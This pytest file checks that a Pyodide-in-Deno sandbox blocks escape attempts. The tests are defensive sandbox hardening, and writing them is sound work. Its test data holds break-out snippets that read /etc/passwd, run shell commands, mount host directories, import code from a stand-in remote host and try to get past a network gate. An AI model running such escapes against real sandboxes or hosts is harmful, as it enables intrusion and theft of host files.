"""Pyodide's JS bridge is not a boundary; Deno's permissions are. Break-out attempts.

Guest Python can reach JavaScript through ``js`` and ``pyodide.ffi``. Each test
tries a way out of the sandbox through that bridge and checks it fails
(the files, processes and hosts targeted must see nothing).
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.conftest import execute
from tests.loopback import LoopbackServer


def run_js(client: httpx.Client, code: str, **fields: object) -> dict[str, Any]:
    return execute(client, code, runtime="pyodide", **fields)


# Each snippet must raise; the message names the Deno permission that refused it.
ESCAPES = {
    "process-env": "import js\nprint(js.process.env.PATH)",
    "deno-env": "import js\njs.Deno.env.toObject()",
    "read-host-file": "import js\nawait js.Deno.readTextFile('/etc/passwd')",
    "read-via-function-constructor": (
        "import js\n"
        "g = js.Function.new('return globalThis')()\n"
        "await g.Deno.readTextFile('/etc/hostname')"
    ),
    "write-host-file": "import js\nawait js.Deno.writeTextFile('/tmp/sandlot-escape', 'x')",
    "deno-command": (
        "import js\n"
        "cmd = js.Reflect.construct(js.Deno.Command, js.Array.of('id'))\n"
        "await cmd.output()"
    ),
    "node-child-process": (
        "import js\nm = await js.eval('import(\"node:child_process\")')\nm.execSync('id')"
    ),
    "node-fs": "import js\nm = await js.eval('import(\"node:fs\")')\nm.readFileSync('/etc/passwd')",
    "dynamic-import-remote": "import js\nawait js.eval('import(\"https://example.invalid/x.js\")')",
    "ffi-dlopen": "import js\njs.Deno.dlopen('libc.so.6', js.Object.new())",
    "system-info": "import js\njs.Deno.hostname()",
    "mount-host-dir": (
        "import pyodide_js, js\n"
        "fs = pyodide_js.FS\n"
        "fs.mkdir('/host')\n"
        "fs.mount(fs.filesystems.NODEFS, js.JSON.parse('{\"root\": \"/etc\"}'), '/host')\n"
        "open('/host/passwd').read()"
    ),
}


@pytest.mark.parametrize("code", ESCAPES.values(), ids=ESCAPES.keys())
def test_bridge_escape_fails(client: httpx.Client, code: str) -> None:
    body = run_js(client, code)
    assert body["status"] == "error", body
    assert not Path("/tmp/sandlot-escape").exists()


def test_host_file_content_never_reaches_the_guest(client: httpx.Client) -> None:
    secret = Path("/etc/hostname").read_text().strip()
    code = (
        "import js\n"
        "try:\n"
        "    print(await js.Deno.readTextFile('/etc/hostname'))\n"
        "except Exception as e:\n"
        "    print('refused', type(e).__name__)\n"
    )
    body = run_js(client, code)
    assert body["stdout"].startswith("refused")
    assert secret not in body["stdout"] + body["stderr"]


def test_loading_an_uninstalled_package_fetches_nothing(client: httpx.Client) -> None:
    # numpy is in Pyodide's upstream package list, not in our lock file: there is
    # nothing to download it from (no CDN fallback, and Deno's net is the gate only).
    code = (
        "import pyodide_js\n"
        "try:\n"
        "    await pyodide_js.loadPackage('numpy')\n"
        "except Exception as exc:\n"
        "    print(type(exc).__name__)\n"
        "import importlib.util\n"
        "importlib.util.find_spec('numpy') is None"
    )
    body = run_js(client, code, limits={"wall_ms": 10_000})
    assert body["status"] == "ok", body["error"]
    assert body["result"]["json"] is True
    assert body["usage"]["subrequests"] == 0


def test_broadcast_channel_between_runs_is_gone(client: httpx.Client) -> None:
    body = run_js(client, "import js\nhasattr(js, 'BroadcastChannel')")
    assert body["result"]["json"] is False


# Ways around the JS fetch wrapper: each must fail and the canary must see nothing.
BYPASSES = {
    "deno-connect": (
        "import js\n"
        'await js.Deno.connect(js.JSON.parse(\'{{"hostname": "127.0.0.1", "port": {port}}}\'))'
    ),
    "websocket": (
        "import js, asyncio\n"
        "ws = js.WebSocket.new('ws://127.0.0.1:{port}/')\n"
        "await asyncio.sleep(0.3)\n"
        "assert ws.readyState == 1, 'not connected'"
    ),
    "node-http": (
        "import js\n"
        'await js.eval(\'(async () => {{ const http = await import("node:http"); '
        'return await new Promise((ok, no) => {{ http.get("http://127.0.0.1:{port}/hello", ok)'
        '.on("error", no) }}) }})()\')'
    ),
    "nested-worker": (
        "import js\n"
        "js.Worker.new('data:text/javascript,fetch(\"http://127.0.0.1:{port}/hello\")', "
        'js.JSON.parse(\'{{"type": "module"}}\'))'
    ),
    "xhr": (
        "import js\n"
        "x = js.XMLHttpRequest.new()\n"
        "x.open('GET', 'http://127.0.0.1:{port}/hello', False)\n"
        "x.send()"
    ),
    "pyodide-loadpackage-url": (
        "import pyodide_js\nawait pyodide_js.loadPackage('http://127.0.0.1:{port}/pkg.whl')"
    ),
}


@pytest.mark.parametrize("code", BYPASSES.values(), ids=BYPASSES.keys())
def test_network_bypass_attempts_send_nothing(
    client: httpx.Client, canary: LoopbackServer, code: str
) -> None:
    body = run_js(client, code.format(port=canary.port), allowed_hosts=[])
    assert body["status"] in {"error", "ok"}, body
    assert canary.hit_count == 0


def test_gate_headers_from_the_guest_are_overridden(
    client: httpx.Client, loopback: LoopbackServer, canary: LoopbackServer
) -> None:
    # The guest can't point the gate elsewhere by sending the gate's own headers.
    code = (
        "import js\n"
        "h = js.Headers.new()\n"
        f"h.set('x-sandlot-target', '{canary.url}/hello')\n"
        "h.set('x-sandlot-run', 'someone-else')\n"
        "opts = js.Object.new()\n"
        "opts.headers = h\n"
        f"r = await js.fetch('{loopback.url}/hello', opts)\n"
        "await r.text()"
    )
    body = run_js(client, code, allowed_hosts=[loopback.host])
    assert body["result"]["json"] == "hello from loopback"
    assert canary.hit_count == 0


def test_fetch_through_the_bridge_still_meets_the_gate(
    client: httpx.Client, loopback: LoopbackServer, canary: LoopbackServer
) -> None:
    # Raw JS fetch is routed to the gate: allowed hosts work, others are refused.
    code = (
        "import js\n"
        f"ok = await js.fetch('{loopback.url}/hello')\n"
        "text = await ok.text()\n"
        "try:\n"
        f"    await js.fetch('{canary.url}/hello')\n"
        "    denied = False\n"
        "except Exception:\n"
        "    denied = True\n"
        "[text, denied]"
    )
    body = run_js(client, code, allowed_hosts=[loopback.host])
    assert body["result"]["json"] == ["hello from loopback", True]
    assert canary.hit_count == 0
    assert loopback.hit_count == 1


def test_requests_style_sync_http_goes_through_the_gate(
    client: httpx.Client, loopback: LoopbackServer
) -> None:
    # Synchronous fetch inside ordinary (non-async) code: JSPI suspends the interpreter.
    code = (
        "from pyodide.ffi import run_sync\n"
        "from pyodide.http import pyfetch\n"
        "def get(url):\n"
        "    return run_sync(run_sync(pyfetch(url)).json())\n"
        f"get('{loopback.url}/json')"
    )
    body = run_js(client, code, allowed_hosts=[loopback.host])
    assert body["result"]["json"] == {"answer": 42}
